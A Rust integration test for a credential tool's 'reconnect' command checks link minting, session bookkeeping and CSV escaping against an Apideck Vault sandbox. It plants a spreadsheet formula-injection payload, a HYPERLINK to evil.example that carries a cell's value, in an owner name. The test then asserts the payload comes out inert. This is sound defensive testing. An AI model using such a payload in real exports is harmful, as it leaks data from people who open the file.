//! Issue 17 items 5 and 9, end to end against the sandbox's Apideck Vault: a worklist cell a
//! spreadsheet would run as a formula is inert in the CSV beside a live link; a link is on disk
//! before its mint is noted (an output that cannot be written leaves the mint un-noted, so the
//! next run mints again); and an owner's Vault session is noted for the set of services it
//! covers, so a run that needs more mints a new one.

use crate::common;

use common::*;
use serde_json::json;

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?x="&I2,"Click")"#;

/// A record Vault has no connector for: never imported, so it is on the worklist.
fn unimportable(id: &str, service: &str, unified_api: &str) -> String {
    json!({"id": id, "owner": {"id": "u4", "name": FORMULA, "email": "u4@example.com"},
           "service": service,
           "auth": {"type": "api_key", "api_key": canary(&format!("{id}-key"))},
           "targets": {"apideck": {"unified_api": unified_api, "service_id": service}}})
    .to_string()
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_are_written_before_they_are_noted_and_noted_for_what_they_cover() {
    let sandbox = sandbox().await;
    let env = sandbox.env();
    let dir = scratch();
    let inputs = scratch();
    let crm = unimportable("u4/nosuchcrm", "nosuchcrm", "crm");
    let accounting = unimportable("u4/nosuchbooks", "nosuchbooks", "accounting");
    let one = write_lines(inputs.path(), "one.jsonl", std::slice::from_ref(&crm));
    let both = write_lines(inputs.path(), "both.jsonl", &[crm, accounting]);
    let run = import_with_state("apideck", &env, dir.path(), &both, &[]).await;
    assert_eq!(
        run.report
            .iter()
            .filter(|l| l["error"]["kind"] == "mapping")
            .count(),
        2,
        "{:?}\n{}",
        run.report,
        run.out.stderr
    );
    let reconnect = |input: &std::path::Path, extra: &[&str]| {
        let mut args: Vec<String> = [
            "reconnect",
            "--provider",
            "apideck",
            "--state",
            "state.db",
            "--links",
            "--input",
        ]
        .map(str::to_owned)
        .to_vec();
        args.push(input.to_str().unwrap().to_owned());
        args.extend(extra.iter().map(|a| (*a).to_owned()));
        let env = env.clone();
        let dir = dir.path().to_owned();
        async move {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            authport(&dir, &args, &env).await
        }
    };

    // A full disk: the session is minted, the row cannot be written, the mint is not noted.
    let full = reconnect(&one, &["--output", "/dev/full"]).await;
    assert_ne!(full.code, 0, "{}", full.stderr);
    assert!(!full.stderr.contains("/session/"), "{}", full.stderr);

    // So this run mints again; CSV, the formula inert beside the link.
    let out = reconnect(&one, &["--output", "w.csv", "--format", "csv"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains("links minted 1, minted earlier 0"),
        "{}",
        out.stderr
    );
    let csv = std::fs::read_to_string(dir.path().join("w.csv")).unwrap();
    let mut lines = csv.lines();
    assert!(
        lines.next().unwrap().ends_with(",link_note,link_minted_at"),
        "{csv}"
    );
    let row = lines.next().unwrap();
    assert!(row.contains("/session/"), "{row}");
    assert!(
        row.contains(r#","'=HYPERLINK(""http://evil.example/?x=""&I2,""Click"")","#),
        "{row}"
    );
    assert!(!row.contains(r#","=HYPERLINK"#), "{row}");

    // The same owner now needs a link for another unified API too: a new session.
    let out = reconnect(&both, &["--output", "w.jsonl"]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains("links minted 1, minted earlier 0"),
        "{}",
        out.stderr
    );
    let rows = read_lines(&dir.path().join("w.jsonl"));
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert!(rows.iter().all(|r| r["link"].is_string()
        && r["link_minted_at"].is_string()
        && r["link"] == rows[0]["link"]));
    // JSON Lines carry the name as it is: only the CSV is read by spreadsheets.
    assert_eq!(rows[0]["owner_name"], FORMULA);

    // And a re-run for the same services mints nothing.
    let again = reconnect(&both, &["--output", "w.jsonl"]).await;
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert!(
        again.stderr.contains("links minted 0, minted earlier 1"),
        "{}",
        again.stderr
    );
    for printed in [&full, &out, &again] {
        assert_no_canary("reconnect output", &printed.printed());
    }
    assert_no_canary_in_dir(dir.path());
}
